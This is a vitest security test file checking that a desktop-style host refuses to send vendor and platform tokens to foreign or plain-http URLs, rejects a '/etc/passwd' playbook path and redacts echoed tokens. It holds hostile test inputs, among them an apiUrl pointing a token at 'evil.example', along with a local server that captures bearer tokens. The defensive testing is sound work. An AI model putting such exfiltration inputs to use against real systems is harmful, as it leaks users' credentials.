/**
 * Defect 4 of issue 10: the UI cannot send a vendor token to a host it chose. Issue 12: nor the
 * platform token over plain http beyond loopback, through `settings:update` or `platform:test`.
 */
import { createServer, type Server } from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { startHost, tempDataDir, type HostUnderTest } from '../../../chaos/host-harness.js';
import { PLANTED, tryExfiltration } from '../../../chaos/exfiltration.js';

let host: HostUnderTest | undefined;
afterEach(async () => {
  await host?.stop();
  host = undefined;
});

describe('vendor URLs from the UI', () => {
  it('refuses every foreign or plain-http vendor host; no token arrives', async () => {
    host = await startHost(tempDataDir());
    const report = await tryExfiltration(host);
    expect(report.tokensArrived).toBe(0);
    expect(report.refused).toBe(report.attempts);
  });

  it("accepts the vendors' own https hosts (Slack, GovSlack, Statuspage, Linear, PagerDuty US/EU)", async () => {
    host = await startHost(tempDataDir());
    for (const patch of [
      { slackApiUrl: 'https://slack.com/api/' },
      { slackApiUrl: 'https://slack-gov.com/api/' },
      { statuspageApiUrl: 'https://api.statuspage.io/v1' },
      { linearApiUrl: 'https://api.linear.app/graphql' },
      { pagerdutyApiUrl: 'https://api.eu.pagerduty.com' },
      { slackApiUrl: '' },
    ]) {
      const result = await host.invoke('settings:update', { patch });
      expect(result.ok, JSON.stringify(result)).toBe(true);
    }
  });

  it('refuses a playbook path that is not .json, .yaml or .yml', async () => {
    host = await startHost(tempDataDir());
    const result = await host.invoke('settings:update', { patch: { playbookPath: '/etc/passwd' } });
    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).toContain('a playbook must be a .json, .yaml or .yml file');
  });

  it('redacts a token echoed in vendor text reaching the UI', async () => {
    host = await startHost(tempDataDir());
    await host.invoke('settings:set-secret', {
      name: 'pagerdutyToken',
      value: PLANTED.pagerdutyToken,
    });
    // The UI may type a token that is not saved: its echo is redacted all the same.
    const typed = 'typed-but-not-saved-0123456789';
    const result = await host.invoke('sources:test', {
      source: 'pagerduty',
      token: typed,
      apiUrl: `https://evil.example/${typed}`,
    });
    expect(JSON.stringify(result)).not.toContain(typed);
  });

  it('refuses a platform URL the token may not travel to over plain http; nothing is saved', async () => {
    host = await startHost(tempDataDir());
    await host.invoke('settings:set-secret', {
      name: 'platformToken',
      value: 'planted-platform-1234',
    });
    for (const platformUrl of ['http://example.com', 'http://0.0.0.0:9', 'ftp://127.0.0.1/']) {
      const result = await host.invoke('settings:update', { patch: { platformUrl } });
      expect(result.ok, platformUrl).toBe(false);
    }
    const refused = await host.invoke('settings:update', {
      patch: { platformUrl: 'http://example.com' },
    });
    expect(JSON.stringify(refused)).toContain('Refusing plain http:// to example.com');
    const view = await host.invoke('settings:get', {});
    expect(view).toMatchObject({ ok: true, value: { values: { platformUrl: '' } } });
    expect((await host.state()).sources.map((s) => s.demo)).toEqual([true]);
    // Loopback http (the local platform, tests) stays the user's to choose.
    const loopback = await host.invoke('settings:update', {
      patch: { platformUrl: 'http://127.0.0.1:9' },
    });
    expect(loopback.ok).toBe(true);
  });

  it('platform:test never offers the token to a refused URL, and redacts a typed token', async () => {
    host = await startHost(tempDataDir());
    const planted = 'planted-platform-5678';
    await host.invoke('settings:set-secret', { name: 'platformToken', value: planted });
    let hits = 0;
    let echo = '';
    const trap: Server = createServer((req, res) => {
      if (JSON.stringify(req.headers).includes(planted)) hits += 1;
      const auth = req.headers.authorization ?? '';
      echo = auth.replace('Bearer ', '');
      res
        .writeHead(500, { 'Content-Type': 'application/json' })
        .end(JSON.stringify({ error: { code: 'x', message: `bad token ${echo}` } }));
    });
    await new Promise<void>((r) => trap.listen(0, '127.0.0.1', () => r()));
    const { port } = trap.address() as { port: number };
    try {
      // 0.0.0.0 is not loopback to the policy, yet reaches this machine: a leak would arrive.
      const refused = (await host.invoke('platform:test', { url: `http://0.0.0.0:${port}` })) as {
        ok: boolean;
        value?: { ok: boolean; problem?: string };
      };
      expect(refused.value).toMatchObject({ ok: false, problem: 'bad-url' });
      expect(hits).toBe(0);
      const typed = 'typed-not-saved-0123456789';
      const tested = await host.invoke('platform:test', {
        url: `http://127.0.0.1:${port}`,
        token: typed,
      });
      expect(echo).toBe(typed);
      expect(JSON.stringify(tested)).toContain('bad token');
      expect(JSON.stringify(tested)).not.toContain(typed);
    } finally {
      await new Promise<void>((r) => trap.close(() => r()));
    }
  });
});
